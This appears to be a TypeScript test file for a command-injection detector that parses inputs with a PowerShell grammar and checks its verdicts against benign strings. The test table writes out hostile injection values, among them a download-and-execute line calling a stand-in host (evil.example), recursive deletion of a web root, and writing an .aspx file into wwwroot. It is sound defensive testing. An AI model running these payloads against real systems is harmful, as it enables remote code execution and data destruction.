// PowerShell on the real grammar (tree-sitter-powershell wasm): payloads written from
// PowerShell's documented syntax, and benign values, including the benign corpus lines the
// cmd.exe tests use.
import { describe, expect, it } from 'vitest';
import { runOracle } from '../index';
import { powershellContexts } from './powershell';
import { withPowerShellTree } from './powershell-parse';

const hit = async (p: string) => (await powershellContexts(p)).filter((c) => c.exploitable).map((c) => `${c.name}: ${c.detail}`).join('\n');

describe('PowerShell grammar', () => {
  it('reads statements, pipelines, chains and sub-expressions as commands', async () => {
    const names = (t: string) => withPowerShellTree(t, (r) => r.descendantsOfType(['command']).map((c) => c?.childForFieldName('command_name')?.text));
    expect(await names('Get-Content x; whoami | Out-File y')).toEqual({ ok: true, value: ['Get-Content', 'whoami', 'Out-File'] });
    expect(await names('Get-Content "a$(hostname)b"')).toEqual({ ok: true, value: ['Get-Content', 'hostname'] });
  });
  it('rejects what PowerShell rejects: a bare & is not allowed', async () => {
    expect(await withPowerShellTree('Get-Content AT&T', () => 1)).toMatchObject({ ok: false });
  });
});

describe('command injection on PowerShell', () => {
  it.each([
    ['report.txt; whoami', /unquoted argument: runs whoami/],
    ['x | Get-Process', /runs get-process/],
    ["x; iex (New-Object Net.WebClient).DownloadString('http://evil.example/a')", /runs invoke-expression .*\(written iex\)/],
    ['x && Remove-Item C:\\inetpub -Recurse', /runs remove-item C:\\inetpub/],
    ['a$(whoami)b', /double-quoted argument: runs whoami/],
    ["x'; Start-Process calc; '", /single-quoted argument: runs start-process calc/],
    ["x; [System.Diagnostics.Process]::Start('cmd.exe')", /calls \[System.Diagnostics.Process\]::Start\(\)/],
    ['x; & "net" user', /runs net user/],
    ['x > C:\\inetpub\\wwwroot\\s.aspx', /writes C:\\inetpub\\wwwroot\\s.aspx/],
    ['x+%3B+gci+C%3A%5C', /\(form-decoded\): runs get-childitem C:\\/],
  ])('%j → exploit, naming what runs', async (p, why) => {
    expect(await hit(p)).toMatch(why);
  });

  it.each([
    'AT&T',
    'Q&A',
    'Tom & Jerry',
    'report.txt',
    'Read chapters 1-3 before the seminar; skip the appendix.',
    '#include <stdio.h>',
    '<b>bold</b>',
    '50% off',
    'budget (again) for the third time.',
    'C:\\Users\\Nikolai\\Pictures\\select.png',
    "let msg = `Hello ${name}`;",
    'x; echo',
    'price: $5',
  ])('benign %j → improbable', async (p) => {
    expect(await hit(p)).toBe('');
  });

  it('the verdict names powershell; a declared PowerShell target is judged on it alone, Windows on cmd and PowerShell', async () => {
    const ps = await runOracle('command_injection', 'a$(whoami)b', { shell: 'powershell' });
    expect(ps).toMatchObject({ verdict: 'exploit_possible', stacks: ['powershell'], confirmedOn: ['powershell'] });
    const win = await runOracle('command_injection', 'a$(whoami)b', { os: 'windows' });
    expect(win).toMatchObject({ stacks: ['cmd', 'powershell'], confirmedOn: ['powershell'] });
    const linux = await runOracle('command_injection', 'x; Get-Process', { os: 'linux' });
    expect(linux).toMatchObject({ verdict: 'exploit_improbable', stacks: ['sh'] });
  });
});

describe('PowerShell positions', () => {
  it('counts positions in JavaScript characters, so the template tail is told apart after non-ASCII text', async () => {
    expect(await hit('café; echo')).toBe('');
    expect(await hit('café; echo pwned')).toMatch(/runs write-output pwned/);
  });
});

describe('PowerShell: an unclosed ${ braced variable', () => {
  it('is rejected from the text in unquoted templates (thousands of them take tree-sitter seconds), parsed as usual elsewhere', async () => {
    const ctx = await powershellContexts('${'.repeat(2048));
    expect(ctx.filter((c) => /no \} closes; read from the text/.test(c.detail)).map((c) => c.name)).toEqual(['PowerShell, unquoted argument', 'PowerShell, unquoted argument, more after it']);
    expect(ctx.some((c) => c.exploitable)).toBe(false);
  });
  it('closed, quoted or commented, it goes to the grammar: ${a} runs nothing, $(whoami) beside a quoted ${ still runs', async () => {
    expect((await powershellContexts('${a}')).every((c) => !/read from the text/.test(c.detail))).toBe(true);
    expect(await hit("x; whoami '${'")).toMatch(/whoami/);
  });
});
